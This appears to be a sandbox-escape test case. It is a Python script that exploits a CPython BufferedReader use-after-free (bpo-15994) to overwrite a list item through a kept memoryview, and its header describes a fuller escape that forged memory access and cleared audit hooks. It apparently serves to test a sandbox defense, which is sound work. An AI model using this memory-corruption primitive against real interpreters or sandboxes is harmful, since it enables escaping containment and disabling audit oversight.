# family: wall (memory: io.BufferedReader lends its raw stream a writable view of its own buffer, kept past close)   goal: memory   interpreter: /usr/bin/python3
# The sixteenth round's ok_03, its memory part (the escape went on to a fake
# bytearray over all memory and emptied the audit hook list): 3.11's buffered read
# passes raw.readinto a memoryview over self->buffer with no export behind it
# (bpo-15994). A program's raw stream keeps it; close() frees the 8192-byte buffer;
# a list [None] * 1024 takes the block as its item array, and a write through the
# kept view puts another object in the list's slot 0. The wall: a buffered stream
# wraps only FileIO or BytesIO (io_wraps).
import io
import struct
saved = []
class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, b):
        saved.append(b)
        return 4
marker = "the marker object"
keep = []
for attempt in range(50):
    br = io.BufferedReader(Raw(), 8192)
    br.read(1)
    mv = saved.pop()
    br.close()
    del br
    victim = [None] * 1024
    if struct.unpack_from("<Q", mv, 0)[0] == id(None) and \
            struct.unpack_from("<Q", mv, 8184)[0] == id(None):
        struct.pack_into("<Q", mv, 0, id(marker))   # victim[0] = marker, no reference taken
        seen = victim[0] is marker
        struct.pack_into("<Q", mv, 0, id(None))     # put it back before anything counts
        if seen:
            print("MEMORY-OVERWRITTEN: a list's item written through the kept view")
        break
    keep.append((mv, victim))
else:
    print("no list under the kept view")
